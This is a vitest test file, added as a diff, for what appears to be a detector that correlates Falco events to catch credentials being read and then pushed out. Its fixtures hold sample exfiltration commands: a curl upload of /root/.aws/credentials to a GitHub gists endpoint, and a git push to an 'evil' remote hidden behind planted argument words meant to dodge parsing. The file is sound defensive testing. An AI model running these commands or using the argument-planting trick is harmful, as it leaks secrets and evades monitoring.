@@ -1,0 +1,104 @@
+/**
+ * Falco joins argv with spaces and quotes nothing, so an argument holding a space plants words: `git -c "x=1
+ * commit y" push URL` arrived as `-c x=1 commit y push URL`, read as `git commit` (found by review; Tetragon
+ * quotes). The shipped exec rule prints `proc.cmdnargs`, the normalizer marks words that outnumber it, and a
+ * table tool so marked is a push when any grouping of its words into that many arguments is one.
+ */
+import { describe, expect, it } from 'vitest';
+import { normalizeFalco, parseFalcoJson } from '../../../src/formats/falco/index.js';
+import type { NormalizedEvent } from '../../../src/model/normalized-event.js';
+import { readingsOf } from '../../../src/rules/joined-argv.js';
+import { falcoCmdline, socketFields } from '../../fixtures/falco/argv.js';
+import { CONTAINER, falcoAlertText, T0 } from '../../fixtures/falco/events.js';
+import { brief, makeCorrelator, testResolver } from '../correlate/builder.js';
+
+const norm = (text: string) => normalizeFalco(parseFalcoJson(text), { node: 'node-a' });
+const at = (ms: number) => T0 + BigInt(ms) * 1_000_000n;
+const API_GITHUB = '140.82.112.5'; // builder.ts TEST_DNS: api.github.com
+const GITHUB = '140.82.112.3'; // github.com
+
+/** Falco's alerts for: `argv` runs (one process), reads the AWS credentials, connects to `ip`, sends 3 KiB. */
+function falcoRun(exepath: string, argv: readonly string[], ip: string): NormalizedEvent[] {
+  const comm = exepath.slice(exepath.lastIndexOf('/') + 1).slice(0, 15);
+  const proc = {
+    ...CONTAINER,
+    'proc.pid': 4100,
+    'proc.ppid': 4000,
+    'proc.vpid': 110,
+    'proc.exepath': exepath,
+    'proc.cmdline': falcoCmdline(comm, argv),
+    'proc.pexepath': '/bin/sh',
+    'proc.pcmdline': 'sh -c /entrypoint.sh',
+    'user.uid': 0,
+  };
+  const exec = { 'evt.type': 'execve', 'evt.rawres': 0, 'proc.exe': argv[0] ?? '', 'proc.cmdnargs': argv.length - 1 };
+  const file = { 'evt.type': 'openat', 'evt.rawres': 5, 'fd.name': '/root/.aws/credentials', 'fd.type': 'file' };
+  const texts = [
+    falcoAlertText({ evtTimeNs: at(0), fields: { ...proc, ...exec } }),
+    falcoAlertText({ evtTimeNs: at(20), fields: { ...proc, ...file } }),
+    falcoAlertText({
+      evtTimeNs: at(40),
+      fields: { ...proc, 'evt.type': 'connect', 'evt.rawres': 0, ...socketFields(ip) },
+    }),
+    falcoAlertText({
+      evtTimeNs: at(60),
+      fields: { ...proc, 'evt.type': 'sendto', 'evt.rawres': 3072, ...socketFields(ip) },
+    }),
+    falcoAlertText({
+      evtTimeNs: at(300),
+      fields: { ...proc, 'evt.type': 'procexit', 'evt.arg.ret': 0, 'evt.arg.sig': null, 'thread.tid': 4100 },
+    }),
+  ];
+  return texts.map(norm).filter((e): e is NormalizedEvent => e !== null);
+}
+
+async function alertsOf(events: NormalizedEvent[]) {
+  const { correlator } = makeCorrelator({ resolveHost: testResolver });
+  await correlator.refreshDestinations();
+  return [...correlator.ingest(events), ...correlator.flush()];
+}
+
+describe('an argv whose arguments hold spaces, as Falco joins it', () => {
+  it('is marked with its argument count only when its words outnumber it or hold quotes', () => {
+    const [spaced] = falcoRun('/usr/bin/git', ['git', '-c', 'x=1 commit y', 'push', 'https://x/y.git'], GITHUB);
+    expect(spaced?.kind === 'exec' ? spaced.process.argvCount : null).toBe(4);
+    const [plain] = falcoRun('/usr/bin/git', ['git', 'push', 'origin'], GITHUB);
+    expect(plain?.kind === 'exec' ? plain.process.argvCount : null).toBeUndefined();
+    const [quoted] = falcoRun('/usr/bin/git', ['git', "-c=x='", 'push', "'"], GITHUB);
+    expect(quoted?.kind === 'exec' ? quoted.process.argvCount : null).toBe(3);
+  });
+
+  it('groups words every way into the count, one-argument readings first', () => {
+    const all = [...readingsOf(['a', 'b', 'c', 'd'], 2)].map((r) => r.join('|'));
+    expect(all.slice(0, 2)).toEqual(['a b c|d', 'a|b c d']);
+    expect(new Set(all)).toEqual(new Set(['a b c|d', 'a b|c d', 'a|b c d']));
+  });
+
+  it('takes a push hidden behind planted words for one, with its remote', async () => {
+    const git = ['git', '-c', 'x=1 commit y', 'push', 'https://github.com/evil/x.git'];
+    // git connecting itself stands for the transport; its helper's own recognition is another path.
+    const alerts = await alertsOf(falcoRun('/usr/bin/git', git, GITHUB));
+    expect(brief(alerts)).toEqual([
+      { rule: 'sensitive-read-then-push', severity: 'high', tool: 'git', destination: 'github.com' },
+    ]);
+    expect(alerts[0]?.push.remote).toBe('https://github.com/evil/x.git');
+    // A planted `--` ends curl's options before its upload flag in the plain reading.
+    const curl = ['curl', '-H', 'X: --', '-d', '@/root/.aws/credentials', 'https://api.github.com/gists'];
+    expect(brief(await alertsOf(falcoRun('/usr/bin/curl', curl, API_GITHUB)))).toEqual([
+      { rule: 'sensitive-read-then-push', severity: 'high', tool: 'curl', destination: 'api.github.com' },
+    ]);
+    // A planted `fetch` made it a download.
+    const fetch = ['git', '-c', 'x=1 fetch y', 'push', 'https://github.com/evil/x.git'];
+    expect(brief(await alertsOf(falcoRun('/usr/bin/git', fetch, GITHUB)))).toHaveLength(1);
+  });
+
+  it('leaves CI command lines with spaced arguments alone', async () => {
+    const shapes: Array<[string, string[], string]> = [
+      ['/usr/bin/git', ['git', '-c', 'http.extraheader=AUTHORIZATION: bearer TOKEN', 'fetch', 'origin'], GITHUB],
+      ['/usr/bin/git', ['git', 'commit', '-m', 'fix push bug'], GITHUB],
+      ['/usr/bin/curl', ['curl', '-H', 'Authorization: Bearer x', 'https://api.github.com/user'], API_GITHUB],
+      ['/usr/bin/gh', ['gh', 'issue', 'comment', '12', '--body', 'push docs after the release upload'], API_GITHUB],
+    ];
+    for (const [exe, argv, ip] of shapes) expect(await alertsOf(falcoRun(exe, argv, ip)), argv.join(' ')).toEqual([]);
+  });
+});
